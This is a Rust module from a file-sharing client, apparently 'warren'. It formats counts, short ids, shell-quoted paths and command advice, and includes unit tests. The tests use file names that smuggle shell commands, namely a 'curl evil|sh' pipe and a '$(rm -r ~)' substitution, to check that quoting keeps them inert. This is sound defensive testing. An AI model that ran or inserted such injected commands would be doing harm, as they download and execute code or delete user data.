//! Words for people: numbers of things, ids, and commands as they can be typed.
//!
//! Not here: the sentences, which are made where something happens.

use std::fmt::Display;
use std::path::Path;

use warren_proto::content::path::printable;

/// Characters of a content id that are shown where all 64 would be too long.
const SHORT_ID: usize = 12;

/// A number and its noun: `1 file`, `2 files`.
pub fn count<N: Display + PartialEq + From<u8>>(number: N, noun: &str) -> String {
    let plural = match noun {
        _ if number == N::from(1) => "",
        noun if noun.ends_with('s') => "es",
        _ => "s",
    };
    format!("{number} {noun}{plural}")
}

/// As much of a content id as tells it from others.
pub fn short_id(id: &impl Display) -> String {
    id.to_string().chars().take(SHORT_ID).collect()
}

/// A path as a shell reads it, whatever name somebody else has given it; `PATH` when it cannot be shown.
pub fn typed(path: &Path) -> String {
    let text = path.to_str().filter(|text| printable(text) == **text);
    let quoted = text.and_then(|text| shlex::try_quote(text).ok());
    quoted.map_or("PATH".to_owned(), |text| text.into_owned())
}

/// What to do about files that were shared where they lie, and are others now.
pub(crate) fn register_anew(path: &Path) -> String {
    format!(
        "Put back what was there and verify it again; or share what is there now, which takes its place: client \
         register {} IDX",
        typed(path)
    )
}

/// Advice with the number of the daemon in the place of `IDX`, for what is read without the client that fills
/// that in.
pub(crate) fn numbered(advice: &str, idx: u16) -> String {
    let word = |word: &str| match word.strip_prefix("IDX") {
        Some(sign) if sign.chars().all(|it| it.is_ascii_punctuation()) => format!("{idx}{sign}"),
        _ => word.to_owned(),
    };
    let words: Vec<String> = advice.split(' ').map(word).collect();
    words.join(" ")
}

/// Advice for any share as advice for this one: its id in the place of `NAME`, its path in the place of
/// `PATH`.
pub fn about(advice: &str, id: &impl Display, path: &Path) -> String {
    let word = |word: &str| {
        let sign = word.trim_start_matches(|letter: char| letter.is_ascii_uppercase());
        let is_sign = sign.chars().all(|letter| letter.is_ascii_punctuation());
        match word.strip_suffix(sign) {
            Some("NAME") if is_sign => short_id(id) + sign,
            Some("PATH") if is_sign => typed(path) + sign,
            _ => word.to_owned(),
        }
    };
    let words: Vec<String> = advice.split(' ').map(word).collect();
    words.join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_of_a_thing_is_not_many() {
        for (number, noun, expected) in [
            (0_u64, "file", "0 files"),
            (1, "file", "1 file"),
            (2, "file", "2 files"),
            (1, "wrong guess", "1 wrong guess"),
            (2, "wrong guess", "2 wrong guesses"),
        ] {
            assert_eq!(count(number, noun), expected);
        }
    }

    #[test]
    fn paths_in_commands_are_one_word_whatever_is_in_them() {
        for path in ["/a/film.mkv", "/a/it's; curl evil|sh", "/a/$(rm -r ~) `x`"] {
            let words = shlex::split(&typed(Path::new(path)));
            assert_eq!(words, Some(vec![path.to_owned()]));
        }
        assert_eq!(typed(Path::new("/a/film.mkv")), "/a/film.mkv");
        assert_eq!(typed(Path::new("/a/\u{1b}[2J")), "PATH");
    }

    #[test]
    fn advice_is_given_the_number_of_the_daemon_and_no_other_word_is_changed() {
        assert_eq!(
            numbered("Try client list IDX; or client stop IDX. IDXS stay", 7),
            "Try client list 7; or client stop 7. IDXS stay"
        );
    }

    #[test]
    fn advice_for_any_share_can_be_typed_for_one() {
        let advice = "Run client verify NAME IDX, or client register PATH, or PATHS.";
        let id = "0123456789abcdef";
        assert_eq!(
            about(advice, &id, Path::new("/two words/it's")),
            "Run client verify 0123456789ab IDX, or client register \"/two words/it's\", or PATHS."
        );
        // No terminal is to be told anything by the name of a file.
        let shown = about(advice, &id, Path::new("/a\u{1b}[2J"));
        assert!(shown.contains("client register PATH,"), "{shown}");
    }
}
